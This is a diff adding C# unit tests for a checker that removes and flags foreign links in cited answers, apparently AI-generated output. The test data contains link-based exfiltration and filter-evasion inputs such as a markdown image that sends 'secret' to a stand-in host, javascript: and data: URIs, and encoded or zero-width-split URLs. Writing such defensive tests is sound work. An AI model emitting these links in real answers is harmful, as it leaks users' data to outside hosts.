@@ -34,6 +34,60 @@ public sealed class AnswerCheckTests
         result.Flags.ShouldBe([AnswerFlags.ForeignUrl]);
     }
 
+    [Theory]
+    [InlineData("![x](//evil.example/?q=secret)")]
+    [InlineData("[x](ftp://evil.example/a)")]
+    [InlineData("[x](javascript:alert(1))")]
+    [InlineData("[x](mailto:evil@evil.example)")]
+    [InlineData("[x](data:text/html,evil)")]
+    [InlineData("[x](/relative/evil)")]
+    [InlineData("[x]( <https://evil.example/a b> \"title\" )")]
+    [InlineData("[![x](//evil.example/a.png)](https://evil.example)")]
+    [InlineData("[x]: //evil.example/a")]
+    [InlineData("<a href='//evil.example'>x</a>")]
+    [InlineData("<img src=//evil.example/a.png")]
+    [InlineData("<img/src=evil.png>")]
+    [InlineData("<https://evil.example>")]
+    [InlineData("https&#58;//evil.example")]
+    [InlineData("https&colon;&sol;&sol;evil.example")]
+    [InlineData("https:/evil.example")]
+    [InlineData("https:\\\\evil.example\\a")]
+    [InlineData("ht\u200Btps://evil.example/a")]
+    [InlineData("javascript:evil()")]
+    [InlineData("//evil.example/?q=1")]
+    [InlineData("www.evil.example")]
+    [InlineData("evil.com")]
+    [InlineData("evil.example.museum/steal?q=1")]
+    [InlineData("evil@evil.example")]
+    [InlineData("https://ferry.example/times.evil")]
+    [InlineData("https://evil-ferry.example/times")]
+    public void Removes_and_flags_whatever_a_renderer_would_make_a_link_of(string link)
+    {
+        var result = AnswerCheck.Check($"At nine [1]\n{link}\nBye.", s_kept);
+        result.Text.ShouldNotContain("evil");
+        result.Text.ShouldContain("Bye.");
+        result.Flags.ShouldBe([AnswerFlags.ForeignUrl]);
+    }
+
+    [Theory]
+    [InlineData("Use List<string>, System.Text.Json or README.md at 10:30 [1].")]
+    [InlineData("if a < b and c = d then std::vector // done [1]")]
+    [InlineData("See [the times](https://ferry.example/times) [1].")]
+    [InlineData("See <https://ferry.example/times> [1].")]
+    [InlineData("Ask at ferry.example [1].")]
+    [InlineData("It is in s3://bucket/c2 [1].")]
+    [InlineData("Note: e.g. 3.5 mg/day, i.e. 1/2 tablet [1]")]
+    public void Leaves_everything_else(string text) => AnswerCheck.Check(text, s_kept).ShouldSatisfyAllConditions(c => c.Text.ShouldBe(text), c => c.Flags.ShouldBeEmpty());
+
+    [Fact]
+    public void A_citation_that_is_a_link_is_a_citation()
+    {
+        var result = AnswerCheck.Check("Pets are free [2](https://ferry.example/times), at nine [1](https://evil.example).", s_kept);
+        result.Text.ShouldBe("Pets are free [1], at nine [2].");
+        result.Citations.Select(c => c.ContextId).ShouldBe(["c5", "c2"]);
+        result.Flags.ShouldBe([AnswerFlags.ForeignUrl]);
+    }
+
     [Fact]
     public void Does_not_take_a_url_for_a_longer_one_that_begins_alike() =>
         AnswerCheck.Check("See https://ferry.exam [1]", s_kept).Flags.ShouldBe([AnswerFlags.ForeignUrl]);
